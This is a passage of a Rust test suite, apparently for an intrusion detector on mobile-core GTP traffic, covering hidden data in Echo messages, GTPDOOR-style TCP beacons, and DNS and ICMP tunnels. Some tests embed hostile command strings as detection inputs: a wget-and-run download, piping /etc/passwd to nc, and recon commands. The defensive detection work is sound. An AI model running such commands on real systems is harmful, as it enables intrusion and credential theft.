/// payload either, on its first Echo too (GTPv1 and GTPv2). Random octets of the same
/// lengths, a record whose text field is base64, and a command line in plain text are.
#[test]
fn vendor_records_in_echo_private_extensions() {
    let echo = |i: u32, enterprise: u16, value: &[u8]| {
        let v2 = echo_request_v2(
            i,
            vec![v2_recovery(3), v2_private_extension(enterprise, value)],
        );
        let mut pe = enterprise.to_be_bytes().to_vec();
        pe.extend_from_slice(value);
        let v1 = gtp_v1(
            1,
            0,
            Some(i as u16),
            vec![v1_ie(14, vec![3]), v1_ie(255, pe)],
        );
        [v2, v1]
    };
    let tlv = |counter: u32, clock: &[u8]| {
        let mut v = vec![0x01, 0x04];
        v.extend_from_slice(&counter.to_be_bytes());
        v.push(0x02);
        v.push(clock.len() as u8);
        v.extend_from_slice(clock);
        v
    };
    let quiet: Vec<(u16, Vec<u8>)> = vec![
        (193, b"ZXUN-uMAC V7.23.10\x00\x01".to_vec()),
        (193, b"ZXUN-xGW V7.23.10\x00\x02".to_vec()),
        (11, tlv(0x0036_2f7a, b"1767873610")),
        (2011, tlv(7, b"20261205T101500Z")),
        (
            9,
            [
                b"\x10\x0bPGW-SIN-04\x11\x06".as_slice(),
                b"R21.28\x12\x02\x00\x07",
            ]
            .concat(),
        ),
    ];
    for (i, (enterprise, value)) in quiet.iter().enumerate() {
        for p in echo(i as u32, *enterprise, value) {
            let got = ids(&run(no_policy(), &[gtpc_frame(1.0, PGW, SGW, &p)]));
            assert!(!got.contains(&1002), "{i}: {value:02x?}: {got:?}");
        }
    }
    let mut loud: Vec<Vec<u8>> = (0..6u32)
        .map(|k| noise(1200 + k, 18 + 4 * k as usize))
        .collect();
    loud.push(tlv(9, b"Q2hlY2sgaW4gc3RhdHVzOiBhbGwgc3lzdGVtcyBnbw=="));
    loud.push(b"cd /tmp; wget http://198.51.100.7/a; sh a".to_vec());
    loud.push([b"\x01\x1f".as_slice(), b"cat /etc/passwd | nc 10.9.8.7 53"].concat());
    // base64 cut into runs too short to judge by binary octets between them, and commands
    // one per line
    let b64 = b"Q2hlY2sgaW4gc3RhdHVzOiBhbGwgc3lzdGVtcyBnbyBmb3IgbGF1bmNo";
    let mut cut = Vec::new();
    for (k, c) in b64.chunks(14).enumerate() {
        if k > 0 {
            cut.push(0x80 + k as u8);
        }
        cut.extend_from_slice(c);
    }
    loud.push(cut);
    loud.push(b"uname -a\nid\nls -la /tmp\nwhoami".to_vec());
    for (i, value) in loud.iter().enumerate() {
        for p in echo(100 + i as u32, 2011, value) {
            let got = ids(&run(no_policy(), &[gtpc_frame(1.0, PGW, SGW, &p)]));
            assert!(got.contains(&1002), "{i}: {value:02x?}: {got:?}");
        }
    }
}

/// A node's keepalives that all carry one large private extension — the same binary value,
/// or a vendor TLV whose counter and clock move — raise 1002 once, when it is new, not on
/// every Echo (GTPv1 and GTPv2), and the repeat lifts the flag of the flow it raised; a value
/// that changes whole from Echo to Echo is reported again each time.
#[test]
fn a_nodes_constant_echo_private_extension_is_reported_once() {
    let echo = |i: u32, value: &[u8], v2: bool| {
        if v2 {
            echo_request_v2(i, vec![v2_recovery(3), v2_private_extension(2011, value)])
        } else {
            let mut pe = 2011u16.to_be_bytes().to_vec();
            pe.extend_from_slice(value);
            gtp_v1(1, 0, Some(i as u16), vec![v1_ie(255, pe)])
        }
    };
    let constant = noise(900, 20);
    let tlv = |i: u32| {
        let mut v = vec![0x01, 0x00, 0x10, 0x00, 0x00, 0x00, 0x00];
        v.extend_from_slice(&i.to_be_bytes());
        v.extend_from_slice(&(1_700_000_000u32 + 60 * i).to_be_bytes());
        v.extend_from_slice(&[0x02, 0x00, 0x04, 0xaa, 0xbb, 0xcc, 0xdd]);
        v
    };
    // 1002's direct alerts over Echoes carrying `values`, `gap` seconds apart
    let alerts = |values: &[Vec<u8>], gap: f64, v2: bool| {
        let frames: Vec<Frame> = values
            .iter()
            .enumerate()
            .map(|(i, v)| gtpc_frame(i as f64 * gap, PGW, SGW, &echo(i as u32, v, v2)))
            .collect();
        let a = run(no_policy(), &frames);
        a.iter().filter(|x| !x.tagged && x.sig.id() == 1002).count()
    };
    // the tagged members of 1002's flow over the same Echoes
    let tagged = |values: &[Vec<u8>], v2: bool| {
        let frames: Vec<Frame> = values
            .iter()
            .enumerate()
            .map(|(i, v)| gtpc_frame(i as f64 * 60.0, PGW, SGW, &echo(i as u32, v, v2)))
            .collect();
        let a = run(no_policy(), &frames);
        a.iter().filter(|x| x.tagged && x.sig.id() == 1002).count()
    };
    for v2 in [true, false] {
        let constant: Vec<Vec<u8>> = (0..10).map(|_| constant.clone()).collect();
        let counting: Vec<Vec<u8>> = (0..10u32).map(tlv).collect();
        assert_eq!(alerts(&constant, 60.0, v2), 1, "constant (v2 {v2})");
        assert_eq!(alerts(&counting, 60.0, v2), 1, "counting tlv (v2 {v2})");
        // its repeat shows the value was the node's own: the flow it flagged is no longer
        // tagged (the Echoes that repeat it, and those after)
        assert_eq!(tagged(&constant, v2), 0, "constant, tagged (v2 {v2})");
        assert_eq!(tagged(&counting, v2), 0, "counting tlv, tagged (v2 {v2})");
        // a value new in each Echo: each one is reported (rate limit aside)
        let changing: Vec<Vec<u8>> = (0..4u32).map(|i| noise(910 + i, 20)).collect();
        assert_eq!(alerts(&changing, 3600.0, v2), 4, "changing (v2 {v2})");
    }
}

/// A gateway answering a peer's G-PDUs on a tunnel it no longer knows (after a restart) sends
/// an Error Indication for each, at the period of the traffic it answers and of its rate
/// limit: not a beacon (3005), on GTP-U between declared nodes and without a policy.
#[test]
fn error_indications_at_a_steady_rate_are_no_beacon() {
    let frames: Vec<Frame> = (0..40u32)
        .map(|i| {
            let ei = gtp_v1(
                26,
                0,
                Some(i as u16),
                vec![
                    v1_ie(16, 0x0bad_0001u32.to_be_bytes().to_vec()),
                    v1_ie(133, vec![203, 0, 113, 21]),
                ],
            );
            Frame::at(f64::from(i) * 3.0, udp(PGW, SGW, GTPU, GTPU, &ei))
        })
        .collect();
    let got = ids(&run(no_policy(), &frames));
    assert!(!got.contains(&3005), "{got:?}");
}

// ------------------------------------------------------------------ 2. IE abuse in GTPv2

#[test]
fn ie_lengths_no_node_sends_and_piggyback_on_echo() {
    let cases = [
        vec![v2::IeRepr::raw(3, 0, vec![1, 2])],
        vec![v2_recovery(1), v2::IeRepr::raw(152, 0, vec![1, 2, 3])],
        vec![v2::IeRepr::raw(3, 0, vec![])],
        vec![v2_recovery(1), v2_private_extension(99, &[0x41; 700])],
    ];
    for ies in cases {
        let p = echo_request_v2(7, ies);
        let a = ids(&run(no_policy(), &[gtpc_frame(1.0, SGW, PGW, &p)]));
        assert!(a.contains(&1023), "{a:?}");
    }
    // in any message: a Create Session with a two-octet Recovery
    let mut csr = create_session_request(3, "234150123456789");
    let extra = [3u8, 0, 2, 0, 7, 7];
    csr.extend_from_slice(&extra);
    let l = (csr.len() - 4) as u16;
    csr[2..4].copy_from_slice(&l.to_be_bytes());
    assert!(ids(&run(no_policy(), &[gtpc_frame(1.0, SGW, PGW, &csr)])).contains(&1023));
    // P flag on an Echo, with a message after it
    let mut p = echo_request_v2(8, vec![v2_recovery(1)]);
    p[0] |= 0x10;
    p.extend(echo_request_v2(9, vec![v2_recovery(1)]));
    assert!(ids(&run(no_policy(), &[gtpc_frame(1.0, SGW, PGW, &p)])).contains(&1024));
    // the well-formed Echo: nothing
    let ok = echo_request_v2(8, vec![v2_recovery(1), v2_node_features(1)]);
    assert!(run(no_policy(), &[gtpc_frame(1.0, SGW, PGW, &ok)]).is_empty());
}

// ------------------------------------------------------------------ GTPDOOR v2's TCP beacon

#[test]
fn tcp_rst_with_urgent_pointer_and_urg_clear() {
    let mut frames = Vec::new();
    let mut attack = BTreeSet::new();
    let mut probes = BTreeSet::new();
    let ports = [22u16, 80, 443, 2123, 31337, 55555];
    for (i, port) in ports.iter().enumerate() {
        for (j, ptr) in [1u16, 2, 0x1234].into_iter().enumerate() {
            let ts = (i * 10 + j) as f64;
            // the probe (a SYN or an ACK) and the implant's RST/ACK: the beacon names its
            // probe (reported tagged with it)
            probes.insert(frames.len() as u64 + 1);
            frames.push(Frame::at(
                ts,
                tcp_segment(
                    FOREIGN,
                    PGW,
                    40000 + i as u16,
                    *port,
                    (j % 2 == 0, j % 2 == 1, false, false),
                    0,
                    true,
                    &[],
                ),
            ));
            frames.push(Frame::at(
                ts + 0.001,
                tcp_segment(
                    PGW,
                    FOREIGN,
                    *port,
                    40000 + i as u16,
                    (false, true, true, false),
                    ptr,
                    false,
                    &[],
                ),
            ));
            attack.insert(frames.len() as u64);
            // a plain RST/ACK, a SYN/ACK, urgent data with URG set: no stack's oddity
            frames.push(Frame::at(
                ts + 0.002,
                tcp_segment(
                    PGW,
                    FOREIGN,
                    *port,
                    40001,
                    (false, true, true, false),
                    0,
                    false,
                    &[],
                ),
            ));
            frames.push(Frame::at(
                ts + 0.003,
                tcp_segment(
                    PGW,
                    FOREIGN,
                    *port,
                    40002,
                    (true, true, false, false),
                    0,
                    true,
                    &[],
                ),
            ));
            frames.push(Frame::at(
                ts + 0.004,
                tcp_segment(
                    PGW,
                    FOREIGN,
                    *port,
                    40003,
                    (false, true, false, true),
                    3,
                    false,
                    b"abc",
                ),
            ));
        }
    }
    let a = run(no_policy(), &frames);
    let direct: Vec<&Alert> = a.iter().filter(|x| !x.tagged).collect();
    let tagged: BTreeSet<u64> = a.iter().filter(|x| x.tagged).map(|x| x.frame).collect();
    assert_eq!(
        direct.iter().map(|x| x.frame).collect::<BTreeSet<u64>>(),
        attack
    );
    assert_eq!(tagged, probes, "{:?}", ids(&a));
    assert!(a.iter().all(|x| x.sig.id() == 1025));
    assert!(direct
        .iter()
        .all(|x| x.sig.severity() == 1 && x.evidence["urgent_pointer"] != 0));
}

/// Every frame of `attack` is reported (alerted or tagged), none of `background`.
fn assert_reported_whole(a: &[Alert], attack: &BTreeSet<u64>, background: &BTreeSet<u64>) {
    let reported: BTreeSet<u64> = a.iter().map(|x| x.frame).collect();
    let missed: Vec<&u64> = attack.difference(&reported).collect();
    assert!(missed.is_empty(), "attack frames not reported: {missed:?}");
    let extra: Vec<&u64> = background.intersection(&reported).collect();
    assert!(extra.is_empty(), "background frames reported: {extra:?}");
}

// ------------------------------------------------------------------ 3. tunnels in GTP-U

fn dns_up(ts: f64, teid: u32, ue: [u8; 4], payload: &[u8]) -> Frame {
    gtpu_frame(
        ts,
        SGW,
        PGW,
        teid,
        ipv4_udp(ue, RESOLVER, 40000 + teid as u16, 53, payload),
    )
}

fn dns_down(ts: f64, teid: u32, ue: [u8; 4], payload: &[u8]) -> Frame {
    gtpu_frame(
        ts,
        PGW,
        SGW,
        teid,
        ipv4_udp(RESOLVER, ue, 53, 40000 + teid as u16, payload),
    )
}

#[test]
fn dns_tunnels_with_long_encoded_labels() {
    let domains = [
        "t1.example.org",
        "data.evil-c2.net",
        "x.exfil.co.uk",
        "cdn-updates.com",
    ];
    let encoders: [fn(&[u8]) -> String; 3] = [base32, hex, base64url];
    let mut frames = Vec::new();
    for (d, domain) in domains.iter().enumerate() {
        for (e, enc) in encoders.iter().enumerate() {
            for (s, size) in [20usize, 32, 60, 100].into_iter().enumerate() {
                let data = noise((d * 100 + e * 10 + s) as u32 + 3, size);
                let name = format!("{}.{domain}", labels(&enc(&data), 63));
                let qtype = [1u16, 16, 28, 10][s];
                frames.push(dns_up(
                    frames.len() as f64,
                    1 + d as u32,
                    UE,
                    &dns_query(frames.len() as u16, &name, qtype),
                ));
            }
        }
    }
    let a = run(no_policy(), &frames);
    let hit = frames_with(&a, 2020);
    assert_eq!(hit, (1..=frames.len() as u64).collect(), "{:?}", ids(&a));
    assert!(a
        .iter()
        .filter(|x| x.sig.id() == 2020)
        .all(|x| x.sig.severity() == 1));
}

#[test]
fn dns_tunnel_many_short_subdomains_and_txt_volume() {
    for (d, domain) in ["q.tun.example.net", "beacon.org", "ns1.c2.example.com.au"]
        .iter()
        .enumerate()
    {
        let mut frames = Vec::new();
        for i in 0..40u32 {
            // 10-character base32 labels: too short to be judged alone
            let label = &base32(&noise((i + 1).wrapping_mul(2_654_435_761) ^ d as u32, 8))[..10];
            let qtype = if d == 1 { 16 } else { 1 };
            frames.push(dns_up(
                f64::from(i) * 2.0,
                7,
                [10, 45, 1, d as u8],
                &dns_query(i as u16, &format!("{label}.{domain}"), qtype),
            ));
        }
        let a = run(no_policy(), &frames);
        assert!(ids(&a).contains(&3021), "{domain}: {:?}", ids(&a));
        assert!(!ids(&a).contains(&2020), "{domain}");
        if d == 1 {
            assert!(ids(&a).contains(&3022), "{domain}");
        }
    }
}

/// A beacon naming itself by hex identifiers and counters (Cobalt Strike-style
/// `<6 hex><8 hex id>.cdn.example`): hex labels have vowels (a, e) as names do, and are
/// counted as machine-made all the same (3021), paced fast or slow.
#[test]
fn dns_beacon_with_hex_labels() {
    for (k, gap) in [(0u32, 5.0f64), (1, 120.0)] {
        let mut frames = Vec::new();
        for i in 0..40u32 {
            let label = format!(
                "{:06x}{:08x}",
                i.wrapping_mul(0x9e37_79b9) >> 8,
                0x83ae_52b1u32
            );
            frames.push(dns_up(
                f64::from(i) * gap,
                7,
                [10, 45, 2, k as u8],
                &dns_query(i as u16, &format!("{label}.cdn.static-images.net"), 1),
            ));
        }
        let a = run(no_policy(), &frames);
        assert!(ids(&a).contains(&3021), "gap {gap}: {:?}", ids(&a));
    }
    // a beacon paced under the window's count for fifty minutes (one name every 30 s): found
    // again each time the tagging of its last finding runs out, so every query is reported
    let frames: Vec<Frame> = (0..100u32)
        .map(|i| {
            let label = format!("{:08x}{:08x}", i.wrapping_mul(0x9e37_79b9), 0x3f9a_0c1du32);
            dns_up(
                f64::from(i) * 30.0,
                7,
                [10, 45, 2, 9],
                &dns_query(i as u16, &format!("{label}.api.wx-forecast.net"), 1),
            )
        })
        .collect();
    let a = run(no_policy(), &frames);
    let reported: BTreeSet<u64> = a
        .iter()
        .filter(|x| x.sig.id() == 3021)
        .map(|x| x.frame)
        .collect();
    assert_eq!(reported, (1..=100).collect(), "{:?}", ids(&a));
}

/// DNS over TCP inside GTP-U (each message behind its 2-octet length) is judged like DNS over
/// UDP: encoded labels (2020) and many machine-made names (3021).
#[test]
fn dns_tunnel_over_tcp_in_gtpu() {
    let mut frames = Vec::new();
    for i in 0..30u32 {
        let data = noise(i * 13 + 5, 40);
        let q = dns_query(
            i as u16,
            &format!("{}.tcp-tun.example.net", labels(&base32(&data), 63)),
            16,
        );
        let mut framed = (q.len() as u16).to_be_bytes().to_vec();
        framed.extend_from_slice(&q);
        // the inner segment: IPv4/TCP from the subscriber to the resolver's port 53
        let seg = tcp_segment(
            UE,
            RESOLVER,
            41_000,
            53,
            (false, true, false, false),
            0,
            false,
            &framed,
        );
        frames.push(gtpu_frame(
            f64::from(i) * 2.0,
            SGW,
            PGW,
            44,
            seg[14..].to_vec(),
        ));
    }
    let got = ids(&run(no_policy(), &frames));
    assert!(got.contains(&2020) && got.contains(&3021), "{got:?}");
}

/// A query with an EDNS OPT record (additional count 1), as resolvers and stub libraries
/// send them.
fn with_edns(mut q: Vec<u8>) -> Vec<u8> {
    q[11] = 1;
    q.extend_from_slice(&[0, 0, 41, 0x10, 0, 0, 0, 0, 0, 0, 0]);
    q
}

/// A tunnel whose client sends its queries straight to the tunnel's own server on a port
/// other than 53 (no resolver on the way): encoded labels (2020) and many of them (3021), on
/// several ports, with and without EDNS, and the server's encoded answers (2020).
/// Look-alikes on the same ports stay quiet: random and QUIC-like datagrams, a DNS header
/// with a second question or an answer in a query, mDNS names.
#[test]
fn dns_tunnel_to_a_server_on_another_port() {
    let server = [198, 51, 100, 9];
    for (p, port) in [5353u16, 443, 8053, 31337, 53000].into_iter().enumerate() {
        let mut frames = Vec::new();
        for i in 0..30u32 {
            let data = noise(i * 17 + p as u32 * 1000 + 1, 36);
            let enc = if p % 2 == 0 {
                base32(&data)
            } else {
                hex(&data)
            };
            let mut q = dns_query(
                i as u16,
                &format!("{}.t.example-c2.net", labels(&enc, 63)),
                1,
            );
            if i % 2 == 1 {
                q = with_edns(q);
            }
            frames.push(gtpu_frame(
                f64::from(i) * 2.0,
                SGW,
                PGW,
                60 + p as u32,
                ipv4_udp(UE, server, 41_000, port, &q),
            ));
        }
        let data = noise(700 + p as u32, 90);
        let answer = dns_response(
            9,
            "r.example-c2.net",
            16,
            16,
            0,
            &txt_rdata(&base64url(&data)),
        );
        frames.push(gtpu_frame(
            61.0,
            PGW,
            SGW,
            60 + p as u32,
            ipv4_udp(server, UE, port, 41_000, &answer),
        ));
        let a = run(no_policy(), &frames);
        let got = ids(&a);
        assert!(
            got.contains(&2020) && got.contains(&3021),
            "port {port}: {got:?}"
        );
        assert!(
            frames_with(&a, 2020).contains(&(frames.len() as u64)),
            "port {port}: the answer"
        );
    }
    // look-alikes on the same ports
    let mut frames = Vec::new();
    for i in 0..40u32 {
        let mut q = dns_query(
            i as u16,
            &format!("{}.t.example-c2.net", base32(&noise(i + 1, 36))),
            1,
        );
        let port = [5353u16, 443, 8053, 31337][i as usize % 4];
        match i % 5 {
            // a second question
            0 => q[5] = 2,
            // an answer count in a query
            1 => q[7] = 1,
            // random octets, and a QUIC long header
            2 => q = noise(i + 50, 120),
            3 => {
                q = noise(i + 90, 1200);
                q[0] = 0xc3;
            }
            // mDNS: the link's own names
            _ => q = dns_query(0, &format!("{}._tcp.local", base32(&noise(i + 7, 20))), 12),
        }
        frames.push(gtpu_frame(
            f64::from(i),
            SGW,
            PGW,
            70,
            ipv4_udp(UE, server, 41_000, port, &q),
        ));
    }
    let a = run(no_policy(), &frames);
    assert!(a.is_empty(), "{:?}", ids(&a));
}

/// A tunnel paced under the window's count (fewer than 20 names in any 300 s): 3021 over the
/// slow window (24 distinct names within an hour), at several paces and label lengths; 23
/// names in the hour, or the same 20 names again and again, stay quiet.
#[test]
fn dns_tunnel_paced_under_the_window() {
    for (v, (period, label_len)) in [(20.0, 15usize), (30.0, 12), (60.0, 26), (140.0, 40)]
        .into_iter()
        .enumerate()
    {
        let mut frames = Vec::new();
        for i in 0..26u32 {
            let data = noise(i * 7 + v as u32 * 100 + 1, label_len);
            let label = &base32(&data)[..label_len];
            frames.push(dns_up(
                f64::from(i) * period,
                80 + v as u32,
                UE,
                &dns_query(i as u16, &format!("{label}.slow-c2.example.org"), 1),
            ));
        }
        let a = run(no_policy(), &frames);
        let slow: Vec<_> = a
            .iter()
            .filter(|x| x.sig.id() == 3021 && !x.tagged)
            .collect();
        assert_eq!(slow.len(), 1, "period {period}: {:?}", ids(&a));
        assert_eq!(slow[0].evidence["pace"], "slow");
        assert_eq!(slow[0].frame, 24, "the 24th distinct name");
        // every query that led to it is reported with it, once, and those after it are
        // tagged while the flow is flagged
        let tagged: Vec<u64> = a
            .iter()
            .filter(|x| x.sig.id() == 3021 && x.tagged)
            .map(|x| x.frame)
            .collect();
        let before: Vec<u64> = tagged.iter().copied().filter(|f| *f < 24).collect();
        assert_eq!(before, (1..24).collect::<Vec<u64>>(), "period {period}");
        let unique: BTreeSet<u64> = tagged.iter().copied().collect();
        assert_eq!(unique.len(), tagged.len(), "each once: {tagged:?}");
    }
    // 23 distinct names in an hour, then the same names again: quiet
    let mut frames = Vec::new();
    for i in 0..69u32 {
        let label = &base32(&noise(i % 23 + 1, 15))[..15];
        frames.push(dns_up(
            f64::from(i) * 50.0,
            90,
            UE,
            &dns_query(i as u16, &format!("{label}.slow-c2.example.org"), 1),
        ));
    }
    let a = run(no_policy(), &frames);
    assert!(!ids(&a).contains(&3021), "{:?}", ids(&a));
}

/// A slow tunnel's answers (A records, TTL 0) among other subscribers' traffic: the answers
/// that came long before the alert are reported with their queries; the other subscribers'
/// lookups are not.
#[test]
fn dns_tunnel_answers_before_the_alert_are_reported() {
    let other: [u8; 4] = [10, 45, 0, 78];
    let mut frames = Vec::new();
    let mut tunnel = BTreeSet::new();
    let mut background = BTreeSet::new();
    for i in 0..32u32 {
        let ts = f64::from(i) * 40.0;
        let label = &base32(&noise(i * 3 + 5, 14))[..20];
        let name = format!("{label}.img.cdn-sync.example.net");
        frames.push(dns_up(ts, 60, UE, &dns_query(i as u16, &name, 1)));
        tunnel.insert(frames.len() as u64);
        let answer = dns_response(i as u16, &name, 1, 1, 0, &[192, 0, 2, (i % 250) as u8]);
        frames.push(dns_down(ts + 0.05, 61, UE, &answer));
        tunnel.insert(frames.len() as u64);
        // another subscriber's ordinary lookups meanwhile (more than the flows remember)
        for k in 0..40u32 {
            let q = dns_query((1000 + i * 40 + k) as u16, "www.example.com", 1);
            let t = ts + 1.0 + f64::from(k) * 0.5;
            frames.push(dns_up(t, 62, other, &q));
            background.insert(frames.len() as u64);
            let r = dns_response(
                (1000 + i * 40 + k) as u16,
                "www.example.com",
                1,
                1,
                300,
                &[93, 184, 216, 34],
            );
            frames.push(dns_down(t + 0.02, 63, other, &r));
            background.insert(frames.len() as u64);
        }
    }
    let a = run(no_policy(), &frames);
    assert!(ids(&a).contains(&3021), "{:?}", ids(&a));
    assert_reported_whole(&a, &tunnel, &background);
}

/// Encoders that make labels read like words (random consonant-vowel syllables, words from
/// a list) defeat the vowel and entropy tests of one label, but not the count: 30 letters
/// and more without a hyphen, a new one each query, raise 3021. Long hyphenated names (a
/// person's naming) do not count.
#[test]
fn dns_tunnel_with_word_like_labels() {
    const C: &[u8] = b"bcdfghjklmnprstvz";
    const V: &[u8] = b"aeiou";
    const WORDS: [&str; 16] = [
        "apple", "river", "stone", "cloud", "paper", "green", "light", "music", "table", "water",
        "horse", "tiger", "ocean", "piano", "sugar", "house",
    ];
    let syllables = |seed: u32, n: usize| -> String {
        noise(seed, n)
            .chunks(2)
            .map(|c| {
                let c0 = C[usize::from(c[0]) % C.len()] as char;
                let v = V[usize::from(*c.get(1).unwrap_or(&0)) % V.len()] as char;
                format!("{c0}{v}")
            })
            .collect()
    };
    let words = |seed: u32, n: usize| -> String {
        noise(seed, n)
            .iter()
            .map(|b| WORDS[usize::from(*b) % WORDS.len()])
            .collect()
    };
    for (k, domain) in ["sync.example-c2.net", "upd.example.com.br"]
        .iter()
        .enumerate()
    {
        let mut frames = Vec::new();
        for i in 0..25u32 {
            let label = if k == 0 {
                syllables(i * 3 + 1, 40)
            } else {
                words(i * 5 + 2, 8)
            };
            assert!(label.len() >= 30, "{label}");
            frames.push(dns_up(
                f64::from(i) * 4.0,
                100 + k as u32,
                UE,
                &dns_query(i as u16, &format!("{label}.{domain}"), 1),
            ));
        }
        let a = run(no_policy(), &frames);
        assert!(ids(&a).contains(&3021), "{domain}: {:?}", ids(&a));
    }
    let mut frames = Vec::new();
    for i in 0..40u32 {
        let w = |j: u32| WORDS[((i * 7 + j) % 16) as usize];
        let label = format!("{}-{}-{}-{}-{}-{}", w(0), w(1), w(2), w(3), w(4), w(5));
        frames.push(dns_up(
            f64::from(i) * 4.0,
            110,
            UE,
            &dns_query(i as u16, &format!("{label}.example.com"), 1),
        ));
    }
    let a = run(no_policy(), &frames);
    assert!(a.is_empty(), "{:?}", ids(&a));
}

/// A tunnel under a short registered name in a country-code TLD (`t1.io`, `x.co`, `zz.ng`):
/// its data label is the subdomain, not part of the domain (only the registries' own second
/// levels, `co.uk`, `com.au`, ..., make a three-label domain).
#[test]
fn dns_tunnel_under_short_registered_names() {
    for (d, domain) in ["t1.io", "x.co", "zz.ng", "a9.me"].iter().enumerate() {
        let mut frames = Vec::new();
        for i in 0..30u32 {
            let data = noise(i * 31 + d as u32 + 1, 36);
            let name = format!("{}.{domain}", labels(&base32(&data), 63));
            frames.push(dns_up(
                f64::from(i) * 3.0,
                20 + d as u32,
                UE,
                &dns_query(i as u16, &name, if d % 2 == 0 { 1 } else { 16 }),
            ));
        }
        let a = run(no_policy(), &frames);
        let got = ids(&a);
        assert!(
            got.contains(&2020) && got.contains(&3021),
            "{domain}: {got:?}"
        );
    }
}

/// A phone resolving many distinct machine-made names of content-delivery and cloud
/// providers (CloudFront distributions, API ids, video edges) is browsing, not tunnelling:
/// only the provider's servers answer those names.
#[test]
fn provider_ids_are_not_tunnels() {
    let domains = [
        "cloudfront.net",
        "execute-api.eu-west-1.amazonaws.com",
        "googlevideo.com",
        "fbcdn.net",
    ];
    for (d, domain) in domains.iter().enumerate() {
        let mut frames = Vec::new();
        for i in 0..40u32 {
            let id = &hex(&noise(i * 7 + 100 * d as u32 + 3, 7))[..13];
            let name = format!("d{id}.{domain}");
            frames.push(dns_up(
                f64::from(i) * 5.0,
                30 + d as u32,
                UE,
                &dns_query(i as u16, &name, 1),
            ));
        }
        let a = run(no_policy(), &frames);
        assert!(a.is_empty(), "{domain}: {:?}", ids(&a));
    }
    // reputation and blocklist lookups: a hash under the provider's zone, answered by it
    let lookups: [fn(u32) -> String; 2] = [
        |i| {
            let h = base32(&noise(i + 500, 20)).to_ascii_lowercase();
            format!("{h}._email.k3y7.hbl.dq.spamhaus.net")
        },
        |i| {
            format!(
                "0.0.0.0.1.0.0.4e.{}.avqs.mcafee.com",
                hex(&noise(i + 900, 16))
            )
        },
    ];
    for (k, name) in lookups.iter().enumerate() {
        let frames: Vec<Frame> = (0..60u32)
            .map(|i| {
                let q = dns_query(i as u16, &name(i), 16);
                dns_up(f64::from(i) * 2.0, 60 + k as u32, UE, &q)
            })
            .collect();
        let a = run(no_policy(), &frames);
        assert!(a.is_empty(), "{}: {:?}", name(0), ids(&a));
    }
}

#[test]
fn dns_answers_with_ttl_zero_and_encoded_data() {
    for (i, size) in [24usize, 64, 180].into_iter().enumerate() {
        let data = noise(900 + i as u32, size);
        let txt = dns_response(1, "r.evil-c2.net", 16, 16, 0, &txt_rdata(&base64url(&data)));
        let null = dns_response(2, "r.evil-c2.net", 10, 10, 0, &data);
        let cname = dns_response(3, "r.evil-c2.net", 5, 5, 0, &{
            let mut v = Vec::new();
            for l in labels(&base32(&data), 60).split('.') {
                v.push(l.len() as u8);
                v.extend_from_slice(l.as_bytes());
            }
            v.push(0);
            v
        });
        let frames = [
            dns_down(1.0, 3, UE, &txt),
            dns_down(2.0, 3, UE, &null),
            dns_down(3.0, 3, UE, &cname),
        ];
        let a = run(no_policy(), &frames);
        assert_eq!(
            frames_with(&a, 2020),
            BTreeSet::from([1, 2, 3]),
            "size {size}"
        );
    }
    // the same answers with a TTL: not a tunnel's
    let txt = dns_response(
        1,
        "example.com",
        16,
        16,
        300,
        &txt_rdata("v=spf1 include:_spf.example.com ~all"),
    );
    assert!(run(no_policy(), &[dns_down(1.0, 3, UE, &txt)]).is_empty());
}

#[test]
fn icmp_tunnels_large_encrypted_payloads() {
    let mut frames = Vec::new();
    for (i, size) in [65usize, 100, 500, 1200].into_iter().enumerate() {
        let p = noise(70 + i as u32, size);
        frames.push(gtpu_frame(
            i as f64,
            SGW,
            PGW,
            9,
            icmpv4_echo(UE, [192, 0, 2, 99], i as u16, &p),
        ));
        let v6 = icmpv6_echo(
            [0x20, 1, 0xd, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2],
            [0x20, 1, 0xd, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 9],
            i as u16,
            &p,
        );
        frames.push(gtpu_frame(i as f64 + 0.5, SGW, PGW, 9, v6));
    }
    let a = run(no_policy(), &frames);
    assert_eq!(frames_with(&a, 2021), (1..=frames.len() as u64).collect());
    // ping: 56 octets, 1400 octets of its pattern, Windows' alphabet
    let win: Vec<u8> = b"abcdefghijklmnopqrstuvwabcdefghi"
        .iter()
        .copied()
        .cycle()
        .take(500)
        .collect();
    let quiet = [
        gtpu_frame(
            1.0,
            SGW,
            PGW,
            9,
            icmpv4_echo(UE, [192, 0, 2, 99], 1, &ping_payload(56, 7)),
        ),
        gtpu_frame(
            2.0,
            SGW,
            PGW,
            9,
            icmpv4_echo(UE, [192, 0, 2, 99], 2, &ping_payload(1400, 9)),
        ),
        gtpu_frame(3.0, SGW, PGW, 9, icmpv4_echo(UE, [192, 0, 2, 99], 3, &win)),
    ];
    assert!(run(no_policy(), &quiet).is_empty());
    // ping-sized random data follows no ping's fill: a tunnel's chunk, whatever its size
    let chunk = [gtpu_frame(
        4.0,
        SGW,
        PGW,
        9,
        icmpv4_echo(UE, [192, 0, 2, 99], 4, &noise(5, 48)),
    )];
    assert!(ids(&run(no_policy(), &chunk)).contains(&2021));
}

/// Linux pings of every size up to 200 octets (a 16-octet timestamp before the counting fill),
/// answered with the same data, stay quiet. An echo reply whose data is not its request's is
/// a tunnel's answer whatever its size (2021 on each such reply): ptunnel-style small echoes.
#[test]
fn icmp_echo_replies_that_are_not_their_requests() {
    let far = [192, 0, 2, 99];
    let mut quiet = Vec::new();
    for (i, n) in (56..=200usize).step_by(8).enumerate() {
        let p = linux_ping_payload(n, 1_700_000_000 + i as u64);
        let ts = i as f64;
        quiet.push(gtpu_frame(
            ts,
            SGW,
            PGW,
            9,
            icmpv4_echo(UE, far, i as u16, &p),
        ));
        quiet.push(gtpu_frame(
            ts + 0.02,
            PGW,
            SGW,
            9,
            icmpv4_reply(far, UE, i as u16, &p),
        ));
    }
    let a = run(no_policy(), &quiet);
    assert!(a.is_empty(), "{:?}", ids(&a));
    for size in [16usize, 32, 56] {
        let mut frames = Vec::new();
        for i in 0..6u16 {
            let ts = f64::from(i);
            let ask = noise(400 + u32::from(i), size);
            let answer = noise(500 + u32::from(i), size);
            frames.push(gtpu_frame(ts, SGW, PGW, 9, icmpv4_echo(UE, far, i, &ask)));
            frames.push(gtpu_frame(
                ts + 0.02,
                PGW,
                SGW,
                9,
                icmpv4_reply(far, UE, i, &answer),
            ));
        }
        let a = run(no_policy(), &frames);
        let replies: BTreeSet<u64> = (1..=6).map(|k| 2 * k).collect();
        assert!(
